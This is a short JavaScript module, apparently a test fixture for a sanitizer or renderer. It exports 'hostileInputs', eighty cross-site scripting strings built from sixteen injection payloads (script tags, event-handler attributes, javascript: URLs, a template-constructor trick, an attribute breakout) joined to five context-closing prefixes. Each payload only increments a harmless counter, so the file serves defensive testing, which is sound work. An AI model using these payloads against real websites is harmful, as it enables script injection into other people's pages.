// Eighty script injections (reliability 4, S11).
const DEED = 'window.pwned=(window.pwned||0)+1';
const payloads = [
  `<script>${DEED}</script>`,
  `<ScRiPt src=data:text/javascript,${DEED}></ScRiPt>`,
  `<img src=x onerror=${DEED}>`,
  `<svg onload=${DEED}>`,
  `<svg><animate onbegin=${DEED} attributeName=x dur=1s>`,
  `<body onload=${DEED}>`,
  `<iframe srcdoc="<script>parent.${DEED}</script>">`,
  `<a href="javascript:${DEED}">go</a>`,
  `<details open ontoggle=${DEED}>`,
  `<input autofocus onfocus=${DEED}>`,
  `<video><source onerror=${DEED}></video>`,
  `<math><mtext><style><img src=x onerror=${DEED}>`,
  `<template><script>${DEED}</script></template>`,
  `{{constructor.constructor('${DEED}')()}}`,
  `\u0022 onmouseover=${DEED} style=position:fixed;inset:0 x=\u0022`,
  `<meta http-equiv=refresh content="0;url=javascript:${DEED}">`,
];
const before = ['', '">', "'>", '</title>', '</textarea></script>'];

export const hostileInputs = before.flatMap((closing) =>
  payloads.map((payload) => closing + payload),
);
